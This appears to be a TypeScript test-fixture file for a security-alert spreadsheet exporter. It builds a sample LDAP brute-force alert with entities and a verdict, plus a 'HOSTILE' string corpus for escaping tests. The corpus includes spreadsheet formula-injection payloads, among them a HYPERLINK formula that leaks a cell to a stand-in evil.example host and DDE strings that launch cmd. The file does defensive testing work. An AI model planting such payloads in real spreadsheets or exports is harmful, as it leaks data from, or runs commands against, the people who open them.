/**
 * Fixtures for the report tests: an alert that uses every sheet of the workbook, the entities and
 * profiles it references, a verdict with history, and a corpus of hostile strings.
 */
import type { Alert, UniqueEntity, UniqueEntityProfile } from '../../src/core/model';
import type { EntitySource } from '../../src/core/export/model';
import type { VerdictLookup, VerdictRecord } from '../../src/core/verdicts/lookup';
import { GUID, computer, profile, user } from './helpers';

export const IDS = {
  ...GUID,
  fileServer: 'f11e5e4e-0000-4000-8000-000000000004',
  attacked: 'a77ac4ed-0000-4000-8000-000000000005',
  group: '06a06a06-0000-4000-8000-000000000006',
  missing: 'deadbeef-0000-4000-8000-00000000dead',
  unresolvedComputer: 'computer 10.1.2.7',
};

export const ENTITIES: UniqueEntity[] = [
  computer(IDS.computer, 'WS-FIN-07', { DnsName: 'ws-fin-07.contoso.com', OperatingSystemDisplayName: 'Windows 11 Enterprise' }),
  computer(IDS.dc, 'DC1', { DnsName: 'dc1.contoso.com', OperatingSystemDisplayName: 'Windows Server 2022', IsDomainController: true }),
  computer(IDS.fileServer, 'FILESRV1', { DnsName: 'filesrv1.contoso.com' }),
  user({ UpnName: 'avery.lindqvist@contoso.com', Department: 'Finance' }),
  user({ Id: IDS.attacked, SystemDisplayName: 'Ruth Abernathy', SamName: 'rabernathy', IsSensitive: true }),
  { $type: 'Group', SchemaVersion: 2006106105, IsEntitySchemaChanged: false, Id: IDS.group, SystemDisplayName: 'Domain Admins', SamName: 'Domain Admins', DistinguishedName: 'CN=Domain Admins,CN=Users,DC=contoso,DC=com', GroupType: ['Global', 'Security'] },
] as UniqueEntity[];

export const PROFILES: UniqueEntityProfile[] = [
  { ...profile(IDS.computer, 'ComputerProfile'), ActiveDates: ['2025-01-20', '2025-01-21'] },
  { ...profile(IDS.user), SourceComputerIdToTimeMapping: { [IDS.computer]: '2025-01-21T02:10:00Z' } },
] as unknown as UniqueEntityProfile[];

/** An alert that fills every sheet: all roles, accessed resources, network and event activities. */
export function fullAlert(overrides: Record<string, unknown> = {}): Alert {
  return {
    id: IDS.alert1,
    externalId: '2004',
    type: 'LdapBruteForceSecurityAlert',
    title: 'Suspected Brute Force attack (LDAP)',
    description: 'WS-FIN-07 tried 412 passwords against Ruth Abernathy with LDAP simple binds to DC1.',
    severity: 'High',
    status: 'Open',
    startTime: '2025-01-21T02:13:58.3010000Z',
    endTime: '2025-01-21T02:19:40.7739999Z',
    statusUpdateTime: '2025-01-21T03:00:00Z',
    url: `https://contoso-corp.atp.azure.com/securityAlert/${IDS.alert1}`,
    entities: [
      { role: 'sourceComputer', id: IDS.computer },
      { role: 'sourceUser', id: IDS.user },
      { role: 'destinationComputer', id: IDS.fileServer },
      { role: 'domainController', id: IDS.dc },
      { role: 'attackedAccount', id: IDS.attacked },
      { role: 'attackedAccount', id: IDS.missing },
      { role: 'dnsServer', id: IDS.dc },
      { role: 'accessedResource', id: IDS.fileServer },
      { role: 'related', id: IDS.group },
    ],
    evidence: [
      { time: '2025-01-21T02:13:58.3010000Z', text: 'WS-FIN-07 made 412 failed LDAP simple bind attempts against DC1.', entityIds: [IDS.computer, IDS.dc] },
      { time: '2025-01-21T02:14:09Z', text: 'Attacked accounts: Ruth Abernathy and one account not in the workspace.', entityIds: [IDS.attacked, IDS.missing] },
      { text: 'The bind attempts came from an address without a resolved computer.' },
    ],
    accessedResources: [
      { time: '2025-01-21T02:15:00.5Z', computer: 'WS-FIN-07', name: 'cifs/FILESRV1', details: 'Kerberos service ticket', type: 'Computer', service: 'CIFS' },
    ],
    networkActivities: [
      {
        time: '2025-01-21T02:13:58.301Z', protocol: 'Ldap',
        source: { ip: '10.0.12.57', port: 52311, computerId: IDS.computer, certainty: 'High', resolutionMethods: ['RpcNtlm', 'RdpTls'] },
        destination: { ip: '10.0.0.4', port: 389, computerId: IDS.dc, certainty: 'Medium', resolutionMethods: ['Cached'] },
        details: { bindType: 'Simple', result: 'InvalidCredentials', attempts: 412 },
      },
      {
        time: '2025-01-21T02:19:40.773Z', protocol: 'Ldap',
        source: { ip: '10.1.2.7', port: 50100, computerId: IDS.unresolvedComputer, certainty: 'Low', resolutionMethods: ['RpcNtlm', 'Cached', 'RdpTls'] },
        destination: { ip: '10.0.0.4', port: 636, computerId: IDS.dc, certainty: 'High', resolutionMethods: [] },
        details: { bindType: 'Simple', tls: 'Tls12' },
      },
    ],
    eventActivities: [
      { time: '2025-01-21T02:14:00Z', computerId: IDS.dc, provider: 'Microsoft-Windows-Security-Auditing', eventId: 4625, details: { logonType: 3, status: '0xC000006A' } },
    ],
    relatedEntityIds: [IDS.computer, IDS.user, IDS.dc, IDS.attacked, IDS.group, IDS.unresolvedComputer],
    ...overrides,
  } as Alert;
}

/** The entity source a `WorkspaceIndex` would be, over the fixtures above. */
export function entitySource(entities: UniqueEntity[] = ENTITIES, profiles: UniqueEntityProfile[] = PROFILES): EntitySource {
  const key = (id: string) => id.toLowerCase();
  const e = new Map(entities.map((x) => [key(x.Id), { file: `/ws/entities/${x.SystemDisplayName}.entity.json`, entity: x }]));
  const p = new Map(profiles.map((x) => [key(x.UniqueEntityId), { file: `/ws/profiles/${x.UniqueEntityId}.profile.json`, profile: x }]));
  return { entity: (id) => e.get(key(id)), profile: (id) => p.get(key(id)) };
}

export const VERDICT: VerdictRecord = {
  verdict: 'B-TP',
  determination: 'securityTesting',
  note: 'Quarterly penetration test (CHG-2025-0142).',
  author: 'Noor Haddad <noor.haddad@contoso.com>',
  time: '2025-01-22T14:02:11Z',
  history: [
    { verdict: 'TP', determination: 'compromisedAccount', author: 'Jonas Whitfield <jonas.whitfield@contoso.com>', time: '2025-01-21T07:05:12Z', note: 'Looked real at first.' },
  ],
};

export function verdicts(records: Record<string, VerdictRecord> = { [IDS.alert1]: VERDICT }): VerdictLookup {
  return { verdictOf: (id) => records[id], exclusionFor: () => undefined };
}

/**
 * Strings that spreadsheets would run as formulas, or that stress text handling (OWASP CSV injection
 * payloads, DDE, leading whitespace, quotes and commas, `_xHHHH_` look-alikes, non-BMP characters).
 */
export const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '=',
  '-',
  ' =1+1',
  'a,"quoted",b',
  '_x0041_ is not an A',
  'emoji 🛡️ and 𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'DDE("cmd";"/C calc";"!A0")',
];

/** What a hostile string reads back as: XML turns CR into LF, and the writer does so itself. */
export const expectedText = (s: string): string => s.replace(/\r\n?/g, '\n');

/** An alert whose every text field is one of the hostile strings. */
export function hostileAlert(): Alert {
  const h = (i: number) => HOSTILE[i % HOSTILE.length]!;
  return fullAlert({
    title: h(0),
    description: h(1),
    status: h(2),
    evidence: HOSTILE.map((s, i) => ({ time: '2025-01-21T02:13:58Z', text: s, entityIds: [h(i + 1), IDS.computer] })),
    accessedResources: HOSTILE.map((s, i) => ({ time: '2025-01-21T02:15:00Z', computer: s, name: h(i + 1), details: h(i + 2), type: h(i + 3), service: h(i + 4) })),
    networkActivities: HOSTILE.map((s, i) => ({
      time: '2025-01-21T02:13:58.301Z',
      protocol: s,
      source: { ip: h(i + 1), port: 1000 + i, computerId: h(i + 2), certainty: h(i + 3), resolutionMethods: [h(i + 4)] },
      destination: { ip: h(i + 5), port: 389, computerId: IDS.dc, certainty: 'High', resolutionMethods: [h(i + 6)] },
      details: { query: h(i + 7) },
    })),
    eventActivities: HOSTILE.map((s, i) => ({ time: '2025-01-21T02:14:00Z', computerId: s, provider: h(i + 1), eventId: 4625, details: { text: h(i + 2) } })),
  });
}

/** Entities whose names are hostile strings too. */
export function hostileEntities(): UniqueEntity[] {
  return ENTITIES.map((e, i) => ({ ...e, SystemDisplayName: HOSTILE[i % HOSTILE.length]!, SamName: HOSTILE[(i + 3) % HOSTILE.length]! }));
}
